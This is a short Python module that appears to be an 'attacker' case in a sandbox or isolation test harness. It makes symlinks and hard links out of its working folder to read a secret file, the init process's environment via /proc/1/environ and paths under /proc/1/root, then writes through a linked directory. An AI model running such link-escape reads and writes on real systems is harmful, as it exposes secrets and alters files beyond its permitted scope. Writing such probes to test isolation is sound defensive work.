"""Attacker: links out of its folder, and reads what lies behind the links."""

import contextlib
import os
from typing import Any

HARMLESS = True
STEPS = 1


def propose(world: Any, parent: Any, context: Any) -> Any:
    """To a file of this machine, and to whatever processes it can see have open."""
    claims = []
    targets = [
        world.ORDER["place"] + "/secret.txt",
        "/proc/1/environ",
        "/proc/1/root" + world.ORDER["place"] + "/secret.txt",
    ]
    for number, target in enumerate(targets):
        for make in (os.symlink, os.link):
            path = f"out-{number}-{make.__name__}"
            with contextlib.suppress(OSError):
                make(target, path)
                with open(path, errors="replace") as file:
                    claims.append(file.read(4000).replace("\0", " "))
    with contextlib.suppress(OSError):
        os.symlink(world.ORDER["place"] + "/kept", "kept")
        with open("kept/file", "w") as file:
            file.write("changed")
        claims.append("wrote through a link")
    return world.told(parent, [claim for claim in claims if claim.strip()])
